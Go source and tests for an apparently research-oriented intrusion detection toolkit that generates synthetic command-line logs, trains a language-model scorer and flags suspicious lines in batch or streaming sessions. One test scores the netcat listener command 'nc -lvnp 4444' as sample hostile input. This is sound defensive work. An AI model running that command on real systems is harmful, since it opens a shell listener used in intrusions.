	// model loads — the same fast-fail UX as -method.
	if *modalityPin != "" {
		if err := modality.Validate(*modalityPin); err != nil {
			return err
		}
	}

	ids := commercial.Default()
	var scorer tuning.Scorer
	if *bundle != "" {
		// Cold start: the bundle carries backbone, tokenizer, and head —
		// nothing is re-tuned and no baseline log is opened.
		lb, err := core.LoadScorerBundle(*bundle)
		if err != nil {
			return err
		}
		if *modalityPin != "" {
			if err := lb.CheckModality(*modalityPin); err != nil {
				return err
			}
		}
		scorer, *method = lb.Scorer, lb.Manifest.Method
		if *cascade {
			if scorer, err = core.BuildCascade(lb.Scorer, lb.Cascade); err != nil {
				return err
			}
		}
		if *precision != "" {
			if err := tuning.SetScorerPrecision(scorer, prec); err != nil {
				return err
			}
		}
	} else {
		// Fail a typoed method before the model loads and tuning starts.
		if err := core.ValidateMethod(*method); err != nil {
			return err
		}
		pl, err := core.LoadPipeline(*modelDir)
		if err != nil {
			return err
		}
		if pin := modality.Canonical(*modalityPin); *modalityPin != "" && pl.Pre.Modality() != pin {
			return fmt.Errorf("%w: pipeline %s is %q, -modality wants %q",
				core.ErrModalityMismatch, *modelDir, pl.Pre.Modality(), pin)
		}
		baseLines, err := readBaseline(*baseline)
		if err != nil {
			return err
		}
		labels, err := ids.Label(baseLines, commercial.DefaultNoise(), *seed)
		if err != nil {
			return err
		}
		scorer, err = core.BuildScorer(pl, core.ScorerConfig{
			Method: *method, Epochs: *epochs, Seed: *seed, Precision: prec,
		}, baseLines, labels)
		if err != nil {
			return err
		}
		if *cascade {
			art, err := core.CalibrateCascade(scorer, pl.Pre.Modality(), baseLines, core.DefaultCascadeConfig())
			if err != nil {
				return err
			}
			if scorer, err = core.BuildCascade(scorer, art); err != nil {
				return err
			}
		}
	}

	if *follow {
		agg, err := stream.ParseAggregation(*aggregation)
		if err != nil {
			return err
		}
		cfg := stream.DefaultConfig()
		cfg.ContextWindow = *contextN
		cfg.Aggregation = agg
		cfg.LineThreshold = *lineThr
		cfg.SessionThreshold = *sessThr
		cfg.IdleTimeout = *idle
		if *shards <= 0 {
			*shards = runtime.GOMAXPROCS(0)
		}
		// Follow mode submits one event per Process call, so sharding here
		// cannot parallelize anything; the flag exists to exercise the
		// exact session/routing semantics of a sharded clmserve from a
		// one-process tail (verdicts are identical either way). Each extra
		// shard costs one scorer replica (engine scratch + LRU).
		replicas, err := core.ReplicateScorer(scorer, *shards)
		if err != nil {
			return err
		}
		det, err := stream.NewShardedDetector(replicas, cfg)
		if err != nil {
			return err
		}
		return followInput(*input, *user, det, os.Stdout)
	}
	return batchDetect(scorer, ids, *method, *input, *top)
}

// batchDetect is the one-shot mode: score everything, print the top lines.
func batchDetect(scorer tuning.Scorer, ids *commercial.IDS, method, input string, top int) error {
	lines, err := readInput(input)
	if err != nil {
		return err
	}
	if len(lines) == 0 {
		return fmt.Errorf("no input lines")
	}
	scores, err := scorer.Score(lines)
	if err != nil {
		return err
	}

	idx := make([]int, len(lines))
	for i := range idx {
		idx[i] = i
	}
	sort.SliceStable(idx, func(a, b int) bool { return scores[idx[a]] > scores[idx[b]] })
	n := top
	if n > len(idx) {
		n = len(idx)
	}
	fmt.Printf("top %d of %d lines by %s score:\n", n, len(lines), method)
	for r := 0; r < n; r++ {
		i := idx[r]
		flag := " "
		if ids.Match(lines[i]) != "" {
			flag = "*" // also covered by the commercial IDS rules
		}
		fmt.Printf("%3d. %10.4f %s %s\n", r+1, scores[i], flag, lines[i])
	}
	fmt.Println("(* = also flagged by the simulated commercial IDS)")
	if cs, ok := scorer.(tuning.CascadeStatser); ok {
		st := cs.CascadeStats()
		fmt.Printf("cascade rungs: %d cleared, %d int8-triaged, %d f64-confirmed\n",
			st.Cleared, st.Triaged, st.Escalated)
	}
	return nil
}

// sessionDetector is the follow-mode surface of internal/stream, satisfied
// by both Detector and ShardedDetector.
type sessionDetector interface {
	Process(events []stream.Event) ([]stream.Verdict, error)
	EvictIdle(now int64) int
	Stats() stream.Stats
}

// followInput tails the input through the session-aware detector, printing
// one verdict line per event as it arrives.
func followInput(path, user string, det sessionDetector, w io.Writer) error {
	var r io.Reader
	if path == "-" {
		r = os.Stdin
	} else {
		f, err := os.Open(path)
		if err != nil {
			return err
		}
		defer f.Close()
		r = f
	}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	lineNo, processed := 0, 0
	jsonl, first := false, true
	for sc.Scan() {
		lineNo++
		text := strings.TrimRight(sc.Text(), "\r")
		if strings.TrimSpace(text) == "" {
			continue
		}
		if first {
			jsonl = strings.HasPrefix(strings.TrimSpace(text), "{")
			first = false
		}
		ev := stream.Event{User: user, Time: time.Now().Unix(), Line: text}
		if jsonl {
			// Lenient parse, matching clmserve's /score: any NDJSON with a
			// "line" field works (corpus records verbatim, live logs
			// without ground-truth labels); missing user/time default.
			var rec stream.Event
			if err := json.Unmarshal([]byte(text), &rec); err != nil {
				return fmt.Errorf("line %d: %w", lineNo, err)
			}
			if rec.Line == "" {
				return fmt.Errorf("line %d: record has no command line", lineNo)
			}
			if rec.User != "" {
				ev.User = rec.User
			}
			if rec.Time != 0 {
				ev.Time = rec.Time
			}
			ev.Line = rec.Line
		}
		vs, err := det.Process([]stream.Event{ev})
		if err != nil {
			return err
		}
		v := vs[0]
		mark := " "
		switch {
		case v.SessionAlert && v.LineAlert:
			mark = "!"
		case v.SessionAlert:
			mark = "S" // the session, not the line alone, crossed the bar
		case v.LineAlert:
			mark = "L"
		}
		ctx := ""
		if v.Context != "" {
			ctx = fmt.Sprintf(" ctx=%.4f", v.ContextScore)
		}
		fmt.Fprintf(w, "%s line=%.4f%s session=%.4f (%d lines) %s %s\n",
			mark, v.LineScore, ctx, v.SessionScore, v.SessionLines, v.User, v.Line)
		processed++
		if processed%1024 == 0 {
			det.EvictIdle(ev.Time)
		}
	}
	if err := sc.Err(); err != nil {
		return err
	}
	st := det.Stats()
	fmt.Fprintf(w, "-- %d events, %d line alerts, %d session alerts, %d sessions --\n",
		st.Events, st.LineAlerts, st.SessionAlerts, st.SessionsStarted)
	return nil
}

func readBaseline(path string) ([]string, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	ds, err := corpus.ReadJSONL(f)
	if err != nil {
		return nil, err
	}
	return ds.Lines(), nil
}

// readInput accepts JSONL (detected by a leading '{'), plain text, or "-"
// for stdin. JSONL is parsed in a single pass, so malformed records are
// reported with their true line numbers.
func readInput(path string) ([]string, error) {
	var r io.Reader
	if path == "-" {
		r = os.Stdin
	} else {
		f, err := os.Open(path)
		if err != nil {
			return nil, err
		}
		defer f.Close()
		r = f
	}
	br := bufio.NewReaderSize(r, 64*1024)
	if looksJSONL(br) {
		ds, err := corpus.ReadJSONL(br)
		if err != nil {
			return nil, err
		}
		return ds.Lines(), nil
	}
	sc := bufio.NewScanner(br)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	var lines []string
	for sc.Scan() {
		text := strings.TrimRight(sc.Text(), "\r")
		if strings.TrimSpace(text) == "" {
			continue
		}
		lines = append(lines, text)
	}
	return lines, sc.Err()
}

// looksJSONL peeks at the buffered head without consuming it and reports
// whether the first non-whitespace byte is '{'.
func looksJSONL(br *bufio.Reader) bool {
	head, _ := br.Peek(br.Size())
	for _, b := range head {
		switch b {
		case ' ', '\t', '\r', '\n':
		default:
			return b == '{'
		}
	}
	return false
}
