// Command clmdetect scores command lines for intrusion likelihood with a
// trained pipeline (see clmtrain) and one of the paper's detection methods.
//
// Supervision comes from the simulated commercial IDS applied to a labeled
// baseline log; detection then generalizes beyond those rules.
//
// Usage:
//
//	clmdetect -model model/ -baseline data/train.jsonl \
//	          -method classifier -input data/test.jsonl -top 20
//
// -input accepts a JSONL log or a plain-text file with one command line per
// line ("-" reads plain text from stdin).
package main

import (
	"bufio"
	"flag"
	"fmt"
	"io"
	"os"
	"sort"
	"strings"

	"clmids/internal/anomaly"
	"clmids/internal/commercial"
	"clmids/internal/core"
	"clmids/internal/corpus"
	"clmids/internal/tuning"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "clmdetect:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("clmdetect", flag.ContinueOnError)
	modelDir := fs.String("model", "model", "trained pipeline directory")
	baseline := fs.String("baseline", "train.jsonl", "labeled baseline log (JSONL) for supervision")
	method := fs.String("method", "classifier", "detection method: classifier | retrieval | reconstruction | pca")
	input := fs.String("input", "-", "lines to score: JSONL, plain text, or - for stdin")
	top := fs.Int("top", 20, "how many highest-scored lines to print")
	epochs := fs.Int("epochs", 8, "classifier tuning epochs")
	seed := fs.Int64("seed", 1, "tuning seed")
	if err := fs.Parse(args); err != nil {
		return err
	}

	pl, err := core.LoadPipeline(*modelDir)
	if err != nil {
		return err
	}

	baseLines, err := readBaseline(*baseline)
	if err != nil {
		return err
	}
	ids := commercial.Default()
	labels, err := ids.Label(baseLines, commercial.DefaultNoise(), *seed)
	if err != nil {
		return err
	}

	scorer, err := buildScorer(pl, *method, baseLines, labels, *epochs, *seed)
	if err != nil {
		return err
	}

	lines, err := readInput(*input)
	if err != nil {
		return err
	}
	if len(lines) == 0 {
		return fmt.Errorf("no input lines")
	}
	scores, err := scorer.Score(lines)
	if err != nil {
		return err
	}

	idx := make([]int, len(lines))
	for i := range idx {
		idx[i] = i
	}
	sort.SliceStable(idx, func(a, b int) bool { return scores[idx[a]] > scores[idx[b]] })
	n := *top
	if n > len(idx) {
		n = len(idx)
	}
	fmt.Printf("top %d of %d lines by %s score:\n", n, len(lines), *method)
	for r := 0; r < n; r++ {
		i := idx[r]
		flag := " "
		if ids.Match(lines[i]) != "" {
			flag = "*" // also covered by the commercial IDS rules
		}
		fmt.Printf("%3d. %10.4f %s %s\n", r+1, scores[i], flag, lines[i])
	}
	fmt.Println("(* = also flagged by the simulated commercial IDS)")
	return nil
}

// buildScorer constructs the requested §III/§IV method.
func buildScorer(pl *core.Pipeline, method string, baseLines []string, labels []bool, epochs int, seed int64) (tuning.Scorer, error) {
	switch method {
	case "classifier":
		cfg := tuning.DefaultClassifierConfig()
		cfg.Epochs = epochs
		cfg.Seed = seed
		cfg.MeanPoolFeatures = true
		return pl.NewClassifier(baseLines, labels, cfg)
	case "retrieval":
		return pl.NewRetrieval(baseLines, labels, 1)
	case "reconstruction":
		cfg := tuning.DefaultReconsConfig()
		cfg.Seed = seed
		return pl.NewReconstruction(baseLines, labels, cfg)
	case "pca":
		// The PCA detector never tunes the backbone, so it scores through
		// a persistent inference engine whose LRU cache carries repeated
		// log lines across Score calls.
		engine := tuning.NewEngine(pl.Model.Encoder, pl.Tok, tuning.DefaultEngineConfig())
		emb, err := engine.EmbedLines(baseLines)
		if err != nil {
			return nil, err
		}
		det := &anomaly.PCADetector{}
		if err := det.Fit(emb); err != nil {
			return nil, err
		}
		return &pcaScorer{engine: engine, det: det}, nil
	default:
		return nil, fmt.Errorf("unknown method %q", method)
	}
}

// pcaScorer adapts the unsupervised PCA detector to the Scorer contract.
type pcaScorer struct {
	engine *tuning.Engine
	det    *anomaly.PCADetector
}

func (s *pcaScorer) Score(lines []string) ([]float64, error) {
	emb, err := s.engine.EmbedLines(lines)
	if err != nil {
		return nil, err
	}
	return anomaly.Scores(s.det, emb), nil
}

func readBaseline(path string) ([]string, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	ds, err := corpus.ReadJSONL(f)
	if err != nil {
		return nil, err
	}
	return ds.Lines(), nil
}

// readInput accepts JSONL (detected by a leading '{'), plain text, or "-"
// for stdin plain text.
func readInput(path string) ([]string, error) {
	var r io.Reader
	if path == "-" {
		r = os.Stdin
	} else {
		f, err := os.Open(path)
		if err != nil {
			return nil, err
		}
		defer f.Close()
		r = f
	}
	sc := bufio.NewScanner(r)
	sc.Buffer(make([]byte, 0, 64*1024), 1<<20)
	var lines []string
	jsonl := false
	first := true
	for sc.Scan() {
		text := strings.TrimRight(sc.Text(), "\r\n")
		if text == "" {
			continue
		}
		if first {
			jsonl = strings.HasPrefix(strings.TrimSpace(text), "{")
			first = false
		}
		if jsonl {
			ds, err := corpus.ReadJSONL(strings.NewReader(text + "\n"))
			if err != nil {
				return nil, err
			}
			for _, s := range ds.Samples {
				lines = append(lines, s.Line)
			}
			continue
		}
		lines = append(lines, text)
	}
	return lines, sc.Err()
}
