package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"clmids/internal/corpus"
)

// TestRunRejectsUnknownModality: a typoed -modality fails before any
// synthesis, listing the registered modalities — the same fast-fail UX as
// clmtrain's -method.
func TestRunRejectsUnknownModality(t *testing.T) {
	err := run([]string{"-modality", "syslog", "-out", t.TempDir()})
	if err == nil || !strings.Contains(err.Error(), "powershell") ||
		!strings.Contains(err.Error(), "flows") {
		t.Fatalf("unknown modality error does not list registered names: %v", err)
	}
}

// TestRunSynthesizesNonShellModalities: -modality plumbs through to the
// generator — both new corpora come out labeled and non-empty.
func TestRunSynthesizesNonShellModalities(t *testing.T) {
	for _, mod := range []string{"powershell", "flows"} {
		dir := t.TempDir()
		err := run([]string{"-train", "500", "-test", "250", "-modality", mod, "-out", dir, "-seed", "3"})
		if err != nil {
			t.Fatalf("%s: run: %v", mod, err)
		}
		intrusions := 0
		for _, name := range []string{"train.jsonl", "test.jsonl"} {
			f, err := os.Open(filepath.Join(dir, name))
			if err != nil {
				t.Fatal(err)
			}
			ds, err := corpus.ReadJSONL(f)
			f.Close()
			if err != nil {
				t.Fatalf("%s: reading %s: %v", mod, name, err)
			}
			if len(ds.Samples) == 0 {
				t.Fatalf("%s: empty %s", mod, name)
			}
			intrusions += ds.CountLabel(corpus.Intrusion)
		}
		if intrusions == 0 {
			t.Fatalf("%s: no labeled intrusions in either split", mod)
		}
	}
}
