// Command clmgen synthesizes production-style command-line logs (the
// paper's proprietary-data substitute) and writes them as JSONL.
//
// Usage:
//
//	clmgen -train 8000 -test 4000 -out data/
//
// produces data/train.jsonl and data/test.jsonl with ground-truth labels,
// attack families, in-box markers, and session metadata.
package main

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"

	"clmids/internal/corpus"
	"clmids/internal/modality"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "clmgen:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("clmgen", flag.ContinueOnError)
	def := corpus.DefaultConfig()
	trainN := fs.Int("train", def.TrainLines, "approximate training lines")
	testN := fs.Int("test", def.TestLines, "approximate test lines")
	users := fs.Int("users", def.Users, "number of synthetic accounts")
	intrusion := fs.Float64("intrusion-rate", def.IntrusionRate, "fraction of sessions that are attacks")
	oob := fs.Float64("out-of-box", def.OutOfBoxFrac, "fraction of attacks using out-of-box variants")
	typo := fs.Float64("typo-rate", def.TypoRate, "per-line typo probability")
	garbage := fs.Float64("garbage-rate", def.GarbageRate, "per-line invalid-record probability")
	weird := fs.Float64("weird-rate", def.WeirdRate, "per-line abnormal-yet-benign probability")
	seed := fs.Int64("seed", def.Seed, "generation seed")
	mod := fs.String("modality", "", "log modality to synthesize: "+modality.FlagHelp())
	out := fs.String("out", ".", "output directory")
	if err := fs.Parse(args); err != nil {
		return err
	}
	// A typoed modality fails here, with the registered list, before any
	// synthesis — the same fast-fail UX as clmtrain's -method.
	if err := modality.Validate(*mod); err != nil {
		return err
	}

	cfg := corpus.Config{
		TrainLines: *trainN, TestLines: *testN, Users: *users,
		IntrusionRate: *intrusion, OutOfBoxFrac: *oob,
		TypoRate: *typo, GarbageRate: *garbage, WeirdRate: *weird,
		Seed: *seed, Modality: *mod,
	}
	train, test, err := corpus.Generate(cfg)
	if err != nil {
		return err
	}
	if err := os.MkdirAll(*out, 0o755); err != nil {
		return err
	}
	if err := writeDataset(filepath.Join(*out, "train.jsonl"), train); err != nil {
		return err
	}
	if err := writeDataset(filepath.Join(*out, "test.jsonl"), test); err != nil {
		return err
	}
	fmt.Printf("wrote %d train lines (%d intrusions) and %d test lines (%d intrusions, %d out-of-box) to %s\n",
		len(train.Samples), train.CountLabel(corpus.Intrusion),
		len(test.Samples), test.CountLabel(corpus.Intrusion), test.CountOutOfBox(), *out)
	return nil
}

func writeDataset(path string, d *corpus.Dataset) error {
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	if err := d.WriteJSONL(f); err != nil {
		f.Close()
		return fmt.Errorf("writing %s: %w", path, err)
	}
	return f.Close()
}
