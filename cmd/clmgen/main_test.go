package main

import (
	"os"
	"path/filepath"
	"testing"

	"clmids/internal/corpus"
)

func TestRunWritesBothSplits(t *testing.T) {
	dir := t.TempDir()
	err := run([]string{"-train", "300", "-test", "100", "-out", dir, "-seed", "9"})
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	for _, name := range []string{"train.jsonl", "test.jsonl"} {
		f, err := os.Open(filepath.Join(dir, name))
		if err != nil {
			t.Fatalf("missing %s: %v", name, err)
		}
		ds, err := corpus.ReadJSONL(f)
		f.Close()
		if err != nil {
			t.Fatalf("reading %s: %v", name, err)
		}
		if len(ds.Samples) == 0 {
			t.Errorf("%s is empty", name)
		}
	}
}

func TestRunRejectsBadFlags(t *testing.T) {
	if err := run([]string{"-train", "0"}); err == nil {
		t.Error("zero train size accepted")
	}
	if err := run([]string{"-not-a-flag"}); err == nil {
		t.Error("unknown flag accepted")
	}
}
