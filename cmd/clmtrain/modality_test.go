package main

import (
	"strings"
	"testing"
)

// TestTrainRejectsUnknownModality: the typo is rejected up front, before
// the training data is even opened — so a bogus -data path never masks
// the modality error, mirroring the -method fast-fail.
func TestTrainRejectsUnknownModality(t *testing.T) {
	err := run([]string{"-data", "/nonexistent", "-modality", "syslog"})
	if err == nil || !strings.Contains(err.Error(), "powershell") ||
		!strings.Contains(err.Error(), "flows") {
		t.Fatalf("unknown modality error does not list registered names: %v", err)
	}
}
