package main

import (
	"os"
	"path/filepath"
	"strings"
	"testing"

	"clmids/internal/core"
	"clmids/internal/corpus"
)

func TestTrainProducesLoadablePipeline(t *testing.T) {
	dir := t.TempDir()
	// Generate a small corpus file first.
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 300
	ccfg.TestLines = 50
	train, _, err := corpus.Generate(ccfg)
	if err != nil {
		t.Fatal(err)
	}
	dataPath := filepath.Join(dir, "train.jsonl")
	f, err := os.Create(dataPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := train.WriteJSONL(f); err != nil {
		t.Fatal(err)
	}
	f.Close()

	out := filepath.Join(dir, "model")
	err = run([]string{
		"-data", dataPath, "-out", out,
		"-vocab", "400", "-hidden", "16", "-layers", "1", "-heads", "2",
		"-ffn", "32", "-seq", "24", "-epochs", "1",
	})
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	pl, err := core.LoadPipeline(out)
	if err != nil {
		t.Fatalf("LoadPipeline: %v", err)
	}
	if pl.Tok.VocabSize() == 0 {
		t.Error("empty tokenizer after training")
	}
}

func TestTrainMissingData(t *testing.T) {
	if err := run([]string{"-data", "/nonexistent/x.jsonl"}); err == nil {
		t.Error("missing data file accepted")
	}
}

// TestTrainEmitsServableBundle is the train-once / serve-many loop at the
// command level: clmtrain -bundle emits a bundle that cold-loads into a
// working scorer with no baseline corpus in sight.
func TestTrainEmitsServableBundle(t *testing.T) {
	dir := t.TempDir()
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 300
	ccfg.TestLines = 50
	ccfg.IntrusionRate = 0.2
	train, _, err := corpus.Generate(ccfg)
	if err != nil {
		t.Fatal(err)
	}
	dataPath := filepath.Join(dir, "train.jsonl")
	f, err := os.Create(dataPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := train.WriteJSONL(f); err != nil {
		t.Fatal(err)
	}
	f.Close()

	bundleDir := filepath.Join(dir, "bundle")
	err = run([]string{
		"-data", dataPath, "-out", filepath.Join(dir, "model"),
		"-vocab", "400", "-hidden", "16", "-layers", "1", "-heads", "2",
		"-ffn", "32", "-seq", "24", "-epochs", "1",
		"-bundle", bundleDir, "-method", "retrieval",
	})
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	lb, err := core.LoadScorerBundle(bundleDir)
	if err != nil {
		t.Fatalf("LoadScorerBundle: %v", err)
	}
	if lb.Manifest.Method != "retrieval" || lb.Manifest.Version == "" {
		t.Fatalf("manifest: %+v", lb.Manifest)
	}
	if lb.Manifest.Provenance.Corpus != dataPath {
		t.Fatalf("provenance corpus %q, want %q", lb.Manifest.Provenance.Corpus, dataPath)
	}
	scores, err := lb.Scorer.Score([]string{"nc -lvnp 4444", "ls -la"})
	if err != nil {
		t.Fatalf("cold-loaded scorer: %v", err)
	}
	if len(scores) != 2 {
		t.Fatalf("%d scores", len(scores))
	}
}

// TestTrainRejectsBadBundleMethod: the method typo fails before minutes of
// pre-training start.
func TestTrainRejectsBadBundleMethod(t *testing.T) {
	err := run([]string{"-data", "/nonexistent/x.jsonl", "-bundle", t.TempDir(), "-method", "retreival"})
	if err == nil || !strings.Contains(err.Error(), "unknown method") {
		t.Fatalf("bad bundle method: %v", err)
	}
}
