package main

import (
	"os"
	"path/filepath"
	"testing"

	"clmids/internal/core"
	"clmids/internal/corpus"
)

func TestTrainProducesLoadablePipeline(t *testing.T) {
	dir := t.TempDir()
	// Generate a small corpus file first.
	ccfg := corpus.DefaultConfig()
	ccfg.TrainLines = 300
	ccfg.TestLines = 50
	train, _, err := corpus.Generate(ccfg)
	if err != nil {
		t.Fatal(err)
	}
	dataPath := filepath.Join(dir, "train.jsonl")
	f, err := os.Create(dataPath)
	if err != nil {
		t.Fatal(err)
	}
	if err := train.WriteJSONL(f); err != nil {
		t.Fatal(err)
	}
	f.Close()

	out := filepath.Join(dir, "model")
	err = run([]string{
		"-data", dataPath, "-out", out,
		"-vocab", "400", "-hidden", "16", "-layers", "1", "-heads", "2",
		"-ffn", "32", "-seq", "24", "-epochs", "1",
	})
	if err != nil {
		t.Fatalf("run: %v", err)
	}
	pl, err := core.LoadPipeline(out)
	if err != nil {
		t.Fatalf("LoadPipeline: %v", err)
	}
	if pl.Tok.VocabSize() == 0 {
		t.Error("empty tokenizer after training")
	}
}

func TestTrainMissingData(t *testing.T) {
	if err := run([]string{"-data", "/nonexistent/x.jsonl"}); err == nil {
		t.Error("missing data file accepted")
	}
}
