// Command clmtrain trains the IDS backbone — pre-processing filter, BPE
// tokenizer, and masked-LM pre-trained encoder — on a JSONL log produced by
// clmgen (or any file in the same format), and saves it to a directory for
// clmdetect.
//
// Usage:
//
//	clmtrain -data data/train.jsonl -out model/ -epochs 2 -hidden 48
//
// With -bundle the command additionally runs the serving-side adaptation
// once — supervision from the simulated commercial IDS over the training
// log, then the -method head — and emits a versioned scorer bundle
// (internal/core): the train-once half of train-once / serve-many.
// clmserve -bundle and clmdetect -bundle then cold-start from it with no
// baseline corpus and no tuning.
//
//	clmtrain -data data/train.jsonl -out model/ \
//	         -bundle bundle/ -method retrieval
package main

import (
	"flag"
	"fmt"
	"os"

	"clmids/internal/bpe"
	"clmids/internal/commercial"
	"clmids/internal/core"
	"clmids/internal/corpus"
	"clmids/internal/modality"
	"clmids/internal/model"
	"clmids/internal/preprocess"
	"clmids/internal/pretrain"
)

func main() {
	if err := run(os.Args[1:]); err != nil {
		fmt.Fprintln(os.Stderr, "clmtrain:", err)
		os.Exit(1)
	}
}

func run(args []string) error {
	fs := flag.NewFlagSet("clmtrain", flag.ContinueOnError)
	data := fs.String("data", "train.jsonl", "training log (JSONL)")
	out := fs.String("out", "model", "output directory")
	vocab := fs.Int("vocab", 700, "BPE vocabulary size (paper: 50000)")
	hidden := fs.Int("hidden", 48, "encoder hidden size (paper: 768)")
	layers := fs.Int("layers", 2, "transformer blocks (paper: 12)")
	heads := fs.Int("heads", 4, "attention heads (paper: 12)")
	ffn := fs.Int("ffn", 96, "feed-forward width (paper: 3072)")
	seqLen := fs.Int("seq", 48, "max tokens per line (paper: 1024)")
	epochs := fs.Int("epochs", 2, "pre-training epochs")
	batch := fs.Int("batch", 16, "pre-training batch size")
	lr := fs.Float64("lr", 1e-3, "peak learning rate")
	maskProb := fs.Float64("mask", 0.15, "MLM masking probability q")
	minFreq := fs.Int("min-freq", 3, "command-frequency filter threshold")
	mod := fs.String("modality", "", "log modality of the training data: "+modality.FlagHelp())
	maxLines := fs.Int("max-lines", 0, "cap on pre-training lines (0 = all)")
	seed := fs.Int64("seed", 1, "training seed")
	bundle := fs.String("bundle", "", "also emit a versioned scorer bundle to this directory (train-once / serve-many)")
	method := fs.String("method", "retrieval", "bundle detection method: classifier | retrieval | reconstruction | pca")
	bundleEpochs := fs.Int("bundle-epochs", 8, "bundle classifier tuning epochs")
	bundleVersion := fs.String("bundle-version", "", "bundle version label (default: content-derived)")
	precision := fs.String("precision", "", "bundle serve-path precision: float64 | float32 | int8 (low rungs add a quantized weight section; the head is trained in float64 either way)")
	cascade := fs.Bool("cascade", false, "calibrate the scoring cascade (rarity pre-filter -> int8 triage -> f64 confirm) against the training log and emit its rarity section + thresholds with the bundle")
	if err := fs.Parse(args); err != nil {
		return err
	}
	// Validate before the minutes of pre-training, not after.
	prec, err := model.ParsePrecision(*precision)
	if err != nil {
		return err
	}
	if *cascade {
		if *bundle == "" {
			return fmt.Errorf("-cascade needs -bundle: the cascade artifact rides the bundle format")
		}
		if prec.Low() {
			return fmt.Errorf("-cascade and a low -precision are mutually exclusive: cascade bundles pin int8 triage under a float64 confirm rung")
		}
	}
	if err := modality.Validate(*mod); err != nil {
		return err
	}
	if *bundle != "" {
		if err := core.ValidateMethod(*method); err != nil {
			return err
		}
	}

	f, err := os.Open(*data)
	if err != nil {
		return err
	}
	ds, err := corpus.ReadJSONL(f)
	f.Close()
	if err != nil {
		return err
	}
	fmt.Printf("loaded %d lines from %s\n", len(ds.Samples), *data)

	pcfg := core.PipelineConfig{
		Preprocess: preprocess.Config{MinCommandFreq: *minFreq, Modality: *mod},
		VocabSize:  *vocab,
		Model: model.Config{
			VocabSize: *vocab, MaxSeqLen: *seqLen, Hidden: *hidden,
			Layers: *layers, Heads: *heads, FFN: *ffn,
			LayerNormEps: 1e-5, Dropout: 0.05,
		},
		Pretrain: pretrain.Config{
			Epochs: *epochs, BatchSize: *batch, LR: *lr,
			WarmupFrac: 0.1, WeightDecay: 0.01, GradClip: 1.0,
			Mask: pretrain.MaskConfig{Prob: *maskProb, MaskRatio: 0.8, RandomRatio: 0.1},
			Seed: *seed,
		},
		MaxPretrainLines: *maxLines,
		Seed:             *seed,
		Logf: func(format string, a ...any) {
			fmt.Printf(format+"\n", a...)
		},
	}
	pl, err := core.BuildPipeline(ds.Lines(), pcfg)
	if err != nil {
		return err
	}
	// Fit the token-length estimator on the training log and attach it to
	// the tokenizer: serving engines length-bucket batches without encoding,
	// and the coefficients ride any bundle emitted below. The estimate is
	// advisory — a failed fit costs throughput, never scores — so a fit
	// error is reported and skipped, not fatal.
	if est, eerr := bpe.FitEstimator(pl.Tok, ds.Lines()); eerr != nil {
		fmt.Printf("token-length estimator fit skipped: %v\n", eerr)
	} else {
		pl.Tok.SetEstimator(est)
		fmt.Printf("fitted token-length estimator (fit MAE %.3f tokens)\n", est.MAE)
	}
	if err := pl.SaveDir(*out); err != nil {
		return err
	}
	fmt.Printf("saved pipeline to %s (vocab %d, final MLM loss %.4f)\n",
		*out, pl.Tok.VocabSize(), pl.History.FinalLoss)

	if *bundle == "" {
		return nil
	}
	// Bundle emit: the training log doubles as the labeled baseline. On the
	// shell modality supervision comes from the simulated commercial IDS —
	// the same signal clmserve's warm start would derive, computed once here
	// instead of at every service start. The IDS rule set is shell-only, so
	// other modalities fall back to the in-box oracle the log itself carries
	// (an intrusion record whose variant is marked in-box), mirroring a rule
	// set that knows exactly the known patterns.
	baseLines := ds.Lines()
	var labels []bool
	if modality.Canonical(*mod) == modality.Shell {
		labels, err = commercial.Default().Label(baseLines, commercial.DefaultNoise(), *seed)
		if err != nil {
			return err
		}
	} else {
		labels = make([]bool, len(ds.Samples))
		for i, s := range ds.Samples {
			labels[i] = s.Label == corpus.Intrusion && s.InBox
		}
	}
	fmt.Printf("tuning %s head over %d baseline lines...\n", *method, len(baseLines))
	bs, err := core.BuildScorerFull(pl, core.ScorerConfig{
		Method: *method, Epochs: *bundleEpochs, Seed: *seed, Precision: prec,
	}, baseLines, labels)
	if err != nil {
		return err
	}
	bs.Provenance.Corpus = *data
	if *cascade {
		// Calibrate the cascade against the freshly tuned f64 scorer's own
		// score distribution on the training log; the artifact (rarity table
		// + thresholds) rides the bundle so serving needs no corpus.
		art, err := core.CalibrateCascade(bs.Scorer, pl.Pre.Modality(), baseLines, core.DefaultCascadeConfig())
		if err != nil {
			return err
		}
		bs.Cascade = art
		fmt.Printf("calibrated cascade (clear<=%.3g, clear score %.4g±%.2g, escalate>=%.4g)\n",
			art.Params.ClearThreshold, art.Params.ClearScore,
			art.Params.MaxClearDeviation, art.Params.EscalateLow)
	}
	man, err := core.SaveBundle(*bundle, pl, bs, *bundleVersion)
	if err != nil {
		return err
	}
	fmt.Printf("saved %s bundle %s to %s\n", man.Method, man.Version, *bundle)
	return nil
}
