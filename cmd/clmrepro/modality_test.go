package main

import (
	"strings"
	"testing"
)

// TestCrossmodFlagErrors: the cross-modality experiment's flag surface
// fails fast and points the user the right way — typos list the
// registered modalities, shell-only experiments refuse non-shell
// modalities with a pointer to -exp crossmod, and the unsupported paper
// scale names the scales that exist.
func TestCrossmodFlagErrors(t *testing.T) {
	err := run([]string{"-modality", "syslog"})
	if err == nil || !strings.Contains(err.Error(), "powershell") ||
		!strings.Contains(err.Error(), "flows") {
		t.Fatalf("unknown modality error does not list registered names: %v", err)
	}
